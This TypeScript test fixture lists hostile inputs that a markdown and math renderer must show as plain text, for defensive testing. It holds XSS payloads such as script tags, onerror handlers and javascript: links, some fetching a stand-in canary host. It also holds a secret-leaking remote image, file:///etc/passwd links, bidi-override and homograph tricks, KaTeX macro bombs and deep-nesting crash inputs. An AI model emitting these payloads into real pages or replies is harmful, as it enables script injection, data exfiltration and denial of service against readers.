/**
 * Texts a careless or malicious model, document or user may put in front of a reader. Each must show as text:
 * nothing runs, nothing is requested, the page stays usable. `canary` is a host no text may ever reach.
 */
export const CANARY_HOST = "canary.invalid";

export interface HostileText {
  name: string;
  text: string;
  /** Words that must be readable on the page, because nothing is lost. */
  shows?: string;
}

const C = `https://${CANARY_HOST}`;

export const HOSTILE: readonly HostileText[] = [
  { name: "script element", text: `<script>fetch("${C}/1")</script>`, shows: "<script>" },
  { name: "event handler", text: `<img src=x onerror="fetch('${C}/2')">`, shows: "onerror" },
  { name: "svg onload", text: `<svg onload=alert(1)>`, shows: "<svg" },
  { name: "iframe", text: `<iframe src="${C}/3"></iframe>`, shows: "<iframe" },
  { name: "style element", text: `<style>body{background:url(${C}/4)}</style>`, shows: "<style>" },
  { name: "form", text: `<form action="${C}/5"><input name=p></form>`, shows: "<form" },
  { name: "javascript link", text: "[click](javascript:alert(1))", shows: "click" },
  { name: "javascript link, mixed case and tab", text: "[click](JaVa\tScRiPt:alert(1))", shows: "click" },
  { name: "javascript link, entity", text: "[click](javascript&colon;alert(1))", shows: "click" },
  { name: "data link", text: "[click](data:text/html,<script>alert(1)</script>)", shows: "click" },
  { name: "vbscript and file links", text: "[a](vbscript:x) [b](file:///etc/passwd)", shows: "file:///etc/passwd" },
  { name: "relative link into the product", text: "[log out](/api/logout)", shows: "/api/logout" },
  { name: "protocol-relative link", text: `[go](//${CANARY_HOST}/x)`, shows: "go" },
  { name: "remote image", text: `![chart](${C}/6.png)`, shows: "chart" },
  { name: "remote image without words", text: `![](${C}/7.png?q=secret)`, shows: "7.png" },
  { name: "image with data", text: "![x](data:image/svg+xml;base64,PHN2Zz4=)", shows: "x" },
  { name: "link whose text names another host", text: `[www.sec.gov](${C})`, shows: CANARY_HOST },
  { name: "homograph link", text: "[аррle.com](https://аррle.com/)", shows: "xn--" },
  { name: "user name before the host", text: `[go](https://bank.example@${CANARY_HOST}/)`, shows: CANARY_HOST },
  { name: "right-to-left override", text: "pay \u202Efdp.exe\u202C now", shows: "U+202E" },
  { name: "override in code", text: "```python\nif x:\u2066 # safe\u2069\n```", shows: "U+2066" },
  { name: "tag characters", text: "hello\u{E0041}\u{E0042}", shows: "U+E0041" },
  { name: "maths: macro loop", text: "$\\def\\a{\\a\\a}\\a$", shows: "\\def" },
  { name: "maths: doubling macros", text: "\\[\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\c\\]", shows: "\\def" },
  { name: "maths: giant rule", text: "$\\rule{99999em}{99999em}$ after", shows: "after" },
  { name: "maths: link", text: `$\\href{javascript:alert(1)}{x}$`, shows: "\\href" },
  { name: "maths: remote image", text: `$\\includegraphics{${C}/8.png}$`, shows: "\\includegraphics" },
  { name: "maths: html attributes", text: "$\\htmlStyle{position:fixed}{x}$", shows: "\\htmlStyle" },
  { name: "maths: deep braces", text: `$${"{".repeat(1500)}x${"}".repeat(1500)}$ after`, shows: "after" },
  { name: "maths: invalid", text: "$\\frac{1}{$ and \\(\\nosuch{x}\\)", shows: "nosuch" },
  { name: "quotes nested deep", text: `${">".repeat(3000)} deep`, shows: "deep" },
  { name: "lists nested deep", text: "- ".repeat(3000).concat("deep"), shows: "deep" },
  { name: "emphasis nested deep", text: `${"*a **b ".repeat(4000)}end${" b** a*".repeat(4000)}`, shows: "end" },
  { name: "brackets never closed", text: "[".repeat(20_000), shows: "[[[" },
  { name: "links nested", text: "[".repeat(5000).concat("x", "](http://a.b)".repeat(5000)), shows: "x" },
  {
    name: "backticks of every length",
    text: Array.from({ length: 300 }, (_, i) => "`".repeat(i + 1)).join(" "),
    shows: "`",
  },
  { name: "dollars never closed", text: "$x ".repeat(5000), shows: "$x" },
  { name: "openers never closed", text: "\\( \\[ $$ \\begin{align} \\boxed{".repeat(2000), shows: "\\(" },
  { name: "ten thousand boxes", text: "\\boxed{1} ".repeat(10_000).slice(0, 5000), shows: "" },
  { name: "html comment and declaration", text: "<!-- x --><!DOCTYPE y><?z?>", shows: "<!-- x -->" },
  { name: "closing tags of the reply's shape", text: "</think></answer><|im_end|>", shows: "</think>" },
  { name: "zero bytes and lone surrogates", text: "a\u0000b\uD800c", shows: "a" },
  { name: "comparison that looks like a tag", text: "if a<b and c>d then", shows: "a<b and c>d" },
];
